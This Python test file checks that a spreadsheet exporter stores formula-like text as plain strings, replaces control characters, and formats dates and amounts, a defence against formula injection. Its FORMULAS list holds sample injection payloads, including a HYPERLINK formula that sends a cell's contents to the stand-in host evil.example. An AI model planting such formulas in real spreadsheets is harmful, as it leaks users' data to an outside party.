from datetime import UTC, datetime
from decimal import Decimal
from io import BytesIO

from openpyxl import load_workbook

from core.exports import SheetWriter

FORMULAS = [
    "=1+1",
    "+SUM(A1)",
    "-2+3",
    "@cmd",
    "\t=1",
    "\r=1",
    "#N/A",
    '=HYPERLINK("http://evil.example/?q="&D2,"Pokaż")',
]


def written(*rows, headers=("Tekst",)):
    sheet = SheetWriter(title="Arkusz", headers=headers)
    for row in rows:
        sheet.row(row)
    return load_workbook(BytesIO(sheet.save())).active


def test_text_that_looks_like_a_formula_is_written_as_text():
    sheet = written(*([value] for value in FORMULAS))
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # A bare CR comes back as LF from openpyxl's own XML writer, and as CR once lxml is installed (signxml brings it).
    assert [cell.value.replace("\r", "\n") for cell in cells] == [value.replace("\r", "\n") for value in FORMULAS]
    assert {cell.data_type for cell in cells} == {"s"}


def test_control_characters_stored_before_are_replaced_not_fatal():
    sheet = written(["Kowal\x01ski"], ["Pacjent\x1b[31m odwołał"], ["Nowak\u0085"], ["linia\nlinia\tdruga"])
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        "Kowal\ufffdski",
        "Pacjent\ufffd[31m odwołał",
        "Nowak\ufffd",
        "linia\nlinia\tdruga",
    ]


def test_moments_are_excel_dates_in_warsaw_time_and_numbers_stay_numbers():
    sheet = written([datetime(2027, 7, 5, 6, 20, tzinfo=UTC), 3, None])
    assert sheet["A2"].value == datetime(2027, 7, 5, 8, 20)  # summer time: UTC+2
    assert sheet["A2"].is_date and sheet["A2"].number_format == "dd.mm.yyyy hh:mm"
    assert (sheet["B2"].value, sheet["B2"].data_type) == (3, "n") and sheet["C2"].value is None


def test_amounts_are_numbers_with_two_decimals():
    sheet = written([Decimal("1234.50")])
    assert (sheet["A2"].value, sheet["A2"].data_type, sheet["A2"].number_format) == (1234.5, "n", "#,##0.00")
